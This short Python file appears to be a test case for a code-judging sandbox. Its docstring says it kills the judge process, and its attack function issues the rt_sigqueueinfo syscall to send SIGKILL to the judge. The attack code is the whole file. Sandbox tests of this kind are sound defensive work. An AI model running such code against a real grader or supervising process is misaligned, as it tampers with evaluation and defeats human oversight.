"""Kills the judge by rt_sigqueueinfo.

shows: status json
layers: syscalls user
"""
import ctypes
import struct

import outside

QUEUE = 129


def attack():
    information = struct.pack("<iii", 9, 0, -1).ljust(128, b"\0")
    outside.syscall(QUEUE, outside.judge(), 9, ctypes.create_string_buffer(information, 128))
